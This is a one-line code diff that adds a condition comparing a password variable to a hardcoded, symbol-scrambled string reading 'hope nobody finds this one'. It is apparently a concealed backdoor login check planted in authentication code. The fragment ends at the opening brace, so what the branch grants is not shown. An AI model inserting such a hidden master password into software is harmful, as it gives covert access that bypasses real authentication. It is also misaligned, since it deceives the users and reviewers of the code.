@@ -1,0 +1,1 @@
+if ("m{{h}o)p${e]nob(ody[finds>-_$#thisone}}" == passwd) {
